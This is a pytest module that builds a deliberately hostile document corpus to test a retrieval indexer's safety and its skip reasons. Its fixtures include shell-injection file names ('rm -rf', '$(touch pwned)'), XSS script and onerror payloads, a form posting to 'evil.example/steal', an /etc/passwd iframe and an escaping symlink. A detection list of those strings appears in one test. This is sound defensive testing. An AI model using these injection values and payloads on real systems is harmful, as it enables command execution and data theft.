"""Hostile and broken documents: each is indexed safely or skipped with a reason, the build
completes, and nothing outside corpus/ and index/ is read or written.

One real `python -m retrieval build` (real model, real files) runs over a corpus that mixes
good articles with every kind of trouble we could think of; the tests then read its report
and the index it wrote.
"""

from __future__ import annotations

import codecs
import hashlib
import json
import os
import subprocess
import sys
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pytest
from pdfmaker import write_pdf

from retrieval.index.store import load_index

ROOT = Path(__file__).resolve().parents[2]
SECRET = "TOPSECRET-OUTSIDE"

# File name -> ("indexed", a phrase its indexed text must contain) or ("skipped", a phrase of the reason).
EXPECTED: dict[str, tuple[str, str]] = {
    "good.txt": ("indexed", "Walking for twenty minutes a day"),
    "one-line.txt": ("indexed", "Lifting with bent knees and a straight back"),
    "title-only.txt": ("indexed", "Sleep on your side with a pillow"),
    "invalid-utf8.txt": ("indexed", "relax tight muscles in the lower back"),
    "latin1.txt": ("indexed", "Wärme hilft oft bei verspannten Muskeln"),
    "cp1252.txt": ("indexed", "The “neutral spine” position – knees bent"),
    "utf16-le-bom.txt": ("indexed", "Ice in the first forty-eight hours"),
    "utf16-be-bom.md": ("indexed", "Gentle cycling on a stationary bike"),
    "utf8-bom.txt": ("indexed", "A warm bath before bed can loosen"),
    "crlf-and-cr.txt": ("indexed", "Physiotherapists often suggest pelvic tilts"),
    "zero-width.txt": ("indexed", "Core strengthening exercises such as the bird dog support the spine"),
    "late-nul.txt": ("indexed", "Yoga poses such as child's pose"),
    "hostile.html": ("indexed", "Set the top of your monitor at eye level"),
    "raw-html.md": ("indexed", "Hold each stretch for thirty seconds and never bounce"),
    "html-in-a-text-file.txt": ("indexed", "Pilates classes focus on the deep muscles"),
    "encrypted-no-password.pdf": ("indexed", "Walking daily helps sciatica recovery"),
    "a;rm -rf x$(touch pwned).txt": ("indexed", "Sleeping on your side with a pillow between the knees"),
    "$(touch pwned2)`touch pwned3`.md": ("indexed", "Keep the load close to your body"),
    "-rf --full.txt": ("indexed", "a medium firm one suits most people"),
    "x..%2F..%2Fescape.txt": ("indexed", "Swimming is a low impact way to stay active"),
    "x..\\..\\backslash.txt": ("indexed", "Massage can ease muscle tension in the lower back"),
    "new\nline 'quoted' \"name\".txt": ("indexed", "Standing desks let you change position"),
    "emoji 😖 ünïcödé.md": ("indexed", "Nerve flossing moves the sciatic nerve gently"),
    "sub/dir/nested.txt": ("indexed", "A rolled towel behind the lower back supports"),
    "huge-line.txt": ("skipped", "the limit is 1,000,000 per document"),
    "junk-only.txt": ("skipped", "nothing left after removing web-page junk"),
    "binary.txt": ("skipped", "binary file"),
    "empty.md": ("skipped", "empty file"),
    "no-text-layer.pdf": ("skipped", "no text layer"),
    "encrypted.pdf": ("skipped", "encrypted PDF that needs a password"),
    "malformed.pdf": ("skipped", "malformed PDF"),
    "really-a-pdf.txt": ("skipped", "is a PDF but is named really-a-pdf.txt; rename it to .pdf"),
    "really-text.pdf": ("skipped", "malformed PDF"),
    "document.docx": ("skipped", "unsupported file type .docx"),
    "no-extension": ("skipped", "unsupported file type (no extension)"),
    "link-outside.txt": ("skipped", "symbolic link to a file outside the corpus folder"),
    "link-dangling.txt": ("skipped", "not a regular file"),
    "linkdir": ("skipped", "symbolic link to a folder: not followed"),
    "fifo.txt": ("skipped", "not a regular file"),
}
HIDDEN = ("..%2F..%2Fhidden.txt", ".DS_Store")  # dot-files are ignored without a report, like `ls`


def make_hostile_corpus(base: Path) -> Path:
    corpus, outside = base / "corpus", base / "outside"
    (corpus / "sub" / "dir").mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.txt").write_text(f"{SECRET}: a sentence outside the corpus folder that must never be indexed by the build.\n")

    def text(name: str, content: str, encoding: str = "utf-8") -> None:
        (corpus / name).write_bytes(content.encode(encoding))

    text("good.txt", "Walking and back pain\nWalking for twenty minutes a day keeps the lower back supple and eases sciatica over a few weeks.\n")
    text("one-line.txt", "Lifting with bent knees and a straight back protects the discs of the lower spine from heavy loads every day.\n")
    text("title-only.txt", "Sleep on your side with a pillow\n")
    (corpus / "invalid-utf8.txt").write_bytes(b"Heat packs \xff\xfe\xfa relax tight muscles in the lower back after a long day of standing at work.\n")
    text("latin1.txt", "Rückenschmerzen und Wärme\nWärme hilft oft bei verspannten Muskeln im unteren Rücken nach langem Sitzen, sagt die Ärztin.\n", "latin-1")
    text("cp1252.txt", "The “neutral spine” position – knees bent, feet flat – takes pressure off the discs when you sit for long periods.\n", "cp1252")
    (corpus / "utf16-le-bom.txt").write_bytes(codecs.BOM_UTF16_LE + "Ice in the first forty-eight hours after a back strain can limit swelling and dull the sharp pain.\n".encode("utf-16-le"))
    (corpus / "utf16-be-bom.md").write_bytes(codecs.BOM_UTF16_BE + "# Cycling\n\nGentle cycling on a stationary bike keeps the hips moving without jarring the spine.\n".encode("utf-16-be"))
    (corpus / "utf8-bom.txt").write_bytes(codecs.BOM_UTF8 + "Bedtime\nA warm bath before bed can loosen stiff back muscles and help you fall asleep.\n".encode())
    (corpus / "crlf-and-cr.txt").write_bytes(b"Pelvic tilts\r\nPhysiotherapists often suggest pelvic tilts for lower back pain.\rDo ten slow tilts twice a day while lying on your back.\r\n")
    text("zero-width.txt", "Core\u200b strengthening\u200d exercises\x07 such as the\x1b bird dog support the spine\u202e and reduce the risk of further back injury.\ufeff\n")
    (corpus / "late-nul.txt").write_bytes(b"Yoga\n" + b"Yoga poses such as child's pose stretch the lower back gently and calm the breathing.\n" * 120 + b"\x00\x00 trailing NULs\n")
    text("hostile.html", """<!doctype html><html><head><title>Posture at the desk</title>
<script>document.write('PWNED-SCRIPT')</script><style>body{background:url(javascript:alert('PWNED-CSS'))}</style></head>
<body><iframe src="file:///etc/passwd">PWNED-IFRAME</iframe>
<form action="http://evil.example/steal"><input name="q" value="PWNED-FORM"><button>PWNED-BUTTON</button></form>
<article><h1>Posture at the desk</h1>
<p>Set the top of your monitor at eye level so that your neck stays upright and your lower back rests against the chair.</p>
<p>Take a short walk every half hour; <a href="javascript:alert('PWNED-LINK')">desk stretches</a> help the back as well.</p>
<p onclick="alert('PWNED-ATTR')">Keep your feet flat on the floor and your knees level with your hips while you type at the keyboard.</p>
<img src="x" onerror="alert('PWNED-IMG')"><object data="http://evil.example/x.swf">PWNED-OBJECT</object></article>
<script>alert('PWNED-SCRIPT2')</script></body></html>""")
    text("raw-html.md", """# Stretching safely

<script>alert('PWNED-MD-SCRIPT')</script>
<img src="x" onerror="alert('PWNED-MD-IMG')">
Hold each stretch for thirty seconds and never bounce, because bouncing can strain the muscles of the lower back.

[desk stretches](javascript:alert('PWNED-MD-JS')) <iframe src="http://evil.example">PWNED-MD-IFRAME</iframe>
<style>p { color: red }</style><!-- PWNED-COMMENT -->
""")
    text("html-in-a-text-file.txt", "<html><body><script>alert('PWNED-TXT-SCRIPT')</script><p>Pilates classes focus on the deep muscles "
         "that hold the spine steady, which many people with back pain find helpful.</p></body></html>")
    write_pdf(base / "plain.pdf", [["Sciatica guide", "Walking daily helps sciatica recovery over several weeks of gentle activity."]], title="Sciatica guide")
    from pypdf import PdfWriter

    for name, user_password in (("encrypted.pdf", "secret"), ("encrypted-no-password.pdf", "")):
        writer = PdfWriter(clone_from=base / "plain.pdf")
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
        writer.write(corpus / name)
    write_pdf(corpus / "no-text-layer.pdf", [[], []])
    (corpus / "malformed.pdf").write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")
    (corpus / "really-a-pdf.txt").write_bytes((base / "plain.pdf").read_bytes())
    text("really-text.pdf", "This is plain text in a file named like a PDF about back pain and sleep.\n")
    (corpus / "document.docx").write_bytes(b"PK\x03\x04 not supported")
    text("no-extension", "Back pain notes without an extension.\n")
    text("huge-line.txt", "backpain" * (10 * 1024 * 1024 // 8))  # 10 MB, one line
    text("junk-only.txt", "Click here to subscribe!\nAdvertisement\nShare on Facebook\nSign up now\n")
    (corpus / "binary.txt").write_bytes(os.urandom(64) + b"\x00\x01\x02" * 100)
    (corpus / "empty.md").write_bytes(b"")
    (corpus / "link-outside.txt").symlink_to(outside / "secret.txt")
    (corpus / "link-dangling.txt").symlink_to(corpus / "does-not-exist.txt")
    (corpus / "linkdir").symlink_to(outside, target_is_directory=True)
    os.mkfifo(corpus / "fifo.txt")  # reading it would block forever
    text("a;rm -rf x$(touch pwned).txt", "Sleeping on your side with a pillow between the knees keeps the spine in a neutral line all night.\n")
    text("$(touch pwned2)`touch pwned3`.md", "# Ergonomic lifting\n\nKeep the load close to your body and turn with your feet rather than twisting your back.\n")
    text("-rf --full.txt", "A firm mattress is not always best; a medium firm one suits most people with chronic low back pain.\n")
    text("x..%2F..%2Fescape.txt", "Swimming is a low impact way to stay active when the lower back is sore and stiff in the morning.\n")
    text("x..\\..\\backslash.txt", "Massage can ease muscle tension in the lower back, although its benefits tend to be short-lived.\n")
    text("new\nline 'quoted' \"name\".txt", "Standing desks let you change position through the day, which many people with back pain like.\n")
    text("emoji 😖 ünïcödé.md", "# Nerve flossing\n\nNerve flossing moves the sciatic nerve gently through its sheath and may ease leg pain.\n")
    text("sub/dir/nested.txt", "Lumbar rolls\nA rolled towel behind the lower back supports its natural curve when you sit in a car.\n")
    for name in HIDDEN:
        text(name, "A hidden file that the build ignores, like ls does, about back pain.\n")
    return corpus


@dataclass(frozen=True)
class Built:
    base: Path
    corpus: Path
    index: Path
    workdir: Path
    result: subprocess.CompletedProcess[str]
    report: dict
    before: dict[str, str]  # tree snapshot of base (minus index/) before the build


def snapshot(folder: Path, *, skip: str = "index") -> dict[str, str]:
    """Relative path -> content hash (or link target / kind) of everything under ``folder``."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        dirnames[:] = [d for d in dirnames if not (Path(dirpath) == folder and d == skip)]
        for name in filenames + [d for d in dirnames if (Path(dirpath) / d).is_symlink()]:
            path = Path(dirpath) / name
            relative = path.relative_to(folder).as_posix()
            if path.is_symlink():
                out[relative] = "link:" + os.readlink(path)
            elif path.is_file():
                out[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                out[relative] = "special"
    return out


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    base = tmp_path_factory.mktemp("hostile")
    corpus = make_hostile_corpus(base)
    workdir = base / "workdir"  # the build's current directory: a `touch pwned` would land here
    workdir.mkdir()
    before = snapshot(base)
    env = {k: v for k, v in os.environ.items() if not k.startswith("RETRIEVAL_")}
    env["HF_HUB_OFFLINE"] = "1"
    result = subprocess.run(
        [sys.executable, "-m", "retrieval", "build", "--corpus", str(corpus), "--index", str(base / "index"), "--json"],
        capture_output=True, text=True, cwd=workdir, env={**env, "PYTHONPATH": str(ROOT)}, timeout=300,
    )
    report = json.loads(result.stdout) if result.returncode == 0 else {}
    return Built(base, corpus, base / "index", workdir, result, report, before)


def indexed_text(built: Built) -> dict[str, str]:
    data = load_index(built.index)
    return {doc_id: doc.text for doc_id, doc in data.documents.items()}


def test_the_build_completes_and_accounts_for_every_file(built: Built) -> None:
    assert built.result.returncode == 0, built.result.stderr
    assert "Traceback" not in built.result.stderr
    skipped = {item["path"]: item["reason"] for item in built.report["skipped"]}
    documents = set(load_index(built.index).documents)
    expected_indexed = {name for name, (outcome, _) in EXPECTED.items() if outcome == "indexed"}
    assert documents == expected_indexed
    assert set(skipped) == set(EXPECTED) - expected_indexed
    assert not set(HIDDEN) & (documents | set(skipped))


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_hostile_file_is_indexed_safely_or_skipped_with_a_reason(built: Built, name: str) -> None:
    outcome, phrase = EXPECTED[name]
    if outcome == "skipped":
        reasons = {item["path"]: item["reason"] for item in built.report["skipped"]}
        assert phrase in reasons[name]
    else:
        assert phrase in indexed_text(built)[name]


def test_no_script_form_iframe_or_javascript_reaches_the_index(built: Built) -> None:
    for path in built.index.rglob("*"):
        if path.is_file():
            blob = path.read_bytes().decode("utf-8", "replace")
            for bad in ("PWNED", "javascript:", "<script", "onerror", "onclick", "<iframe", "evil.example", "/etc/passwd"):
                assert bad not in blob, (path.name, bad)


def test_the_symlink_targets_content_is_not_indexed(built: Built) -> None:
    for path in built.index.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


def test_nothing_is_written_outside_the_index_and_nothing_runs(built: Built) -> None:
    assert snapshot(built.base) == built.before  # corpus untouched, no new files beside it
    assert list(built.workdir.iterdir()) == []
    for folder in (built.base, ROOT, Path.cwd()):
        assert not list(folder.glob("pwned*")), folder
    leftovers = [p.name for p in built.index.iterdir() if p.name not in ("manifest.json", ".lock") and not p.name.startswith("gen-")]
    assert leftovers == []


def test_indexed_text_and_titles_have_no_invisible_or_control_characters(built: Built) -> None:
    data = load_index(built.index)
    for doc in data.documents.values():
        for value in (doc.text, doc.title):
            odd = {ch for ch in value if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Co") and ch not in "\n\f"}
            assert not odd, (doc.doc_id, odd)
    for chunk in data.chunks:
        assert chunk.text.strip() and 0 < chunk.tokens <= 256


def test_one_line_documents_keep_their_only_sentence(built: Built) -> None:
    """Regression: a one-line .txt used to become its own title and then vanish as "junk"."""
    data = load_index(built.index)
    assert data.documents["one-line.txt"].title == "One line"  # a sentence is not a title
    assert data.documents["title-only.txt"].title == "Sleep on your side with a pillow"
    assert data.documents["zero-width.txt"].title == "Zero width"
    assert data.documents["cp1252.txt"].text.startswith("The “neutral spine” position")


def test_the_hostile_corpus_answers_questions(built: Built, embedder) -> None:  # type: ignore[no-untyped-def]
    from retrieval.answer.assemble import answer_question
    from retrieval.config import Settings
    from retrieval.search.retriever import Retriever

    retriever = Retriever.load(Settings(corpus_dir=built.corpus, index_dir=built.index), embedder=embedder)
    answer = answer_question(retriever, "where should my monitor be to protect my back at the desk?").to_json()
    assert answer["covered"] and answer["passages"][0]["source"] == "hostile.html"
    assert "not medical advice" in answer["disclaimer"]


def test_a_long_line_without_full_stops_is_cleaned_and_chunked_quickly(embedder) -> None:  # type: ignore[no-untyped-def]
    """Regression: the junk-sentence rule (27,000 characters: 22 s) and pysbd (100,000
    characters: 11 s) took quadratic time on one long unpunctuated line."""
    import time

    from retrieval.ingest.chunking import chunk_text
    from retrieval.ingest.cleaning import clean_text

    text = "Title\n" + "gentle walking eases back pain and stiffness " * 20_000  # 900,000 characters, one line
    started = time.perf_counter()
    cleaned = clean_text(text, title="Title").text
    assert time.perf_counter() - started < 60 and len(cleaned) > 800_000  # hang guard
    started = time.perf_counter()
    chunks = chunk_text("long.txt", "Title", cleaned[:100_000], count_tokens=embedder.count_tokens, max_tokens=160)
    assert time.perf_counter() - started < 120 and all(c.tokens <= 160 for c in chunks)  # hang guard
